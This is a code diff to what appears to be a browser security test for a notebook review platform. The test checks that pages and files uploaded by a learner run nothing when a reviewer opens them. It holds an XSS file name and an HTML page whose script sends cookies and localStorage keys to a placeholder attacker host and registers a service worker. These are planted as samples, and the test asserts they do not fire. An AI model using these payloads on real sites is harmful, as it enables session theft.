@@ -45,6 +45,8 @@ async def submission_with_payloads(maker: Person) -> tuple[str, list[str], int]:
         assert answer.status_code == 201, answer.text
         paths.append(path)
         count += payloads
+    taking = f"/api/projects/{project['id']}/files/taking.html"
+    await maker.http.put(taking, content=TAKING.encode())
     odd = "<img src=x onerror=alert(1)>.txt"
     await maker.http.put(f"/api/projects/{project['id']}/files/{odd}", content=b"x")
     made = await maker.http.post(
@@ -61,7 +63,7 @@ async def submission_with_payloads(maker: Person) -> tuple[str, list[str], int]:
 
 # Shows all of a file: frames are made when they come near to what is seen.
 SCROLL = """async () => {
-  const main = document.querySelector('.platform-Submission main');
+  const main = document.querySelector('.platform-Submission-main');
   const drawn = () => new Promise(done => requestAnimationFrame(() => done()));
   for (let top = 0; top < main.scrollHeight; top += 600) {
     main.scrollTop = top;
@@ -76,9 +78,11 @@ async def shown(reviewer: Visitor, path: str) -> None:
     """Show all of a file, and wait until each of its frames has its page."""
     view = reviewer.page.locator(".platform-Submission")
     await view.get_by_role("navigation").get_by_role("button").get_by_text(path, exact=True).click()
-    await view.get_by_role("main", name=path, exact=True).locator(".platform-Row").first.wait_for()
+    await (
+        view.get_by_role("region", name=path, exact=True).locator(".platform-Row").first.wait_for()
+    )
     count = await reviewer.page.evaluate(SCROLL)
-    await expect(view.locator("main iframe")).to_have_count(count)
+    await expect(view.locator('iframe[sandbox=""]')).to_have_count(count)
     for frame in reviewer.page.frames[1:]:
         with suppress(Error):  # JupyterLab's own come and go
             await frame.wait_for_load_state()
@@ -94,17 +98,45 @@ async def seen_in_notebook_view(reviewer: Visitor, submission: str, path: str) -
     await reviewer.page.evaluate(
         "() => new Promise(done => requestAnimationFrame(() => setTimeout(done)))"
     )
+    page = reviewer.page
+    for command in ("notebook:copy-cell", "notebook:run-all-cells", "notebook:cut-cell"):
+        assert not await page.evaluate("id => window.jupyterapp.commands.isEnabled(id)", command)
+    for link in await view.locator("a[href^=http]").all():
+        assert "noopener" in (await link.get_attribute("rel") or "")
+    assert await view.locator("[data-commandlinker-command]").count() == 0
     await reviewer.run("application:close")
 
 
-async def test_no_payload_fires_in_a_review(server: Server, visit: Visit) -> None:
+# A page of the learner's, opened by itself: what it could take, keep and leave behind.
+TAKING = f"""<!doctype html><title>still</title><script>
+document.title = 'fired';
+fetch('{EVIL}/' + document.cookie + Object.keys(localStorage));
+navigator.serviceWorker.register('worker.js');
+</script>"""
+
+
+async def opened_by_itself(reviewer: Visitor, submission: str) -> None:
+    """Open submitted pages outside of any frame: they run nothing, and leave nothing."""
+    page = await reviewer.context.new_page()
+    for form in ("raw", "view"):
+        for name in ("taking.html", "a.svg", "a.html"):
+            with suppress(Error):  # it may be a download
+                await page.goto(f"{reviewer.url}/api/submissions/{submission}/{form}/{name}")
+                assert await page.title() != "fired"
+    await page.goto(f"{reviewer.url}/lab")
+    workers = "async () => (await navigator.serviceWorker.getRegistrations()).length"
+    assert await page.evaluate(workers) == 0
+    await page.close()
+
+
+async def test_054_058_060_061_067_no_payload_fires(server: Server, visit: Visit) -> None:
     maker = await join(server, "mallory", Role.LEARNER)
     submission, paths, count = await submission_with_payloads(maker)
     assert count >= 500
     rita = await visit("rita", role=Role.REVIEWER)
     watch = Watch()
     await watch.over(rita.context)
-    await rita.open_lab(f"/lab?submission={submission}")
+    await rita.open_lab(f"/lab?reset&submission={submission}")
     theme = await rita.page.evaluate("() => document.body.dataset.jpThemeName")
 
     for path in [*paths, "code.ipynb"]:  # the last is the one that all comments are about
@@ -114,6 +146,8 @@ async def test_no_payload_fires_in_a_review(server: Server, visit: Visit) -> Non
     assert {frame.url for frame in rita.page.frames[1:]} <= {"about:srcdoc"}
     for carrier in ("markdown", "html", "svg", "output in Markdown"):
         await seen_in_notebook_view(rita, submission, f"{carrier}.ipynb")
+
+    await opened_by_itself(rita, submission)
 
     assert watch.fired == []
     assert "fired" not in await rita.page.title()
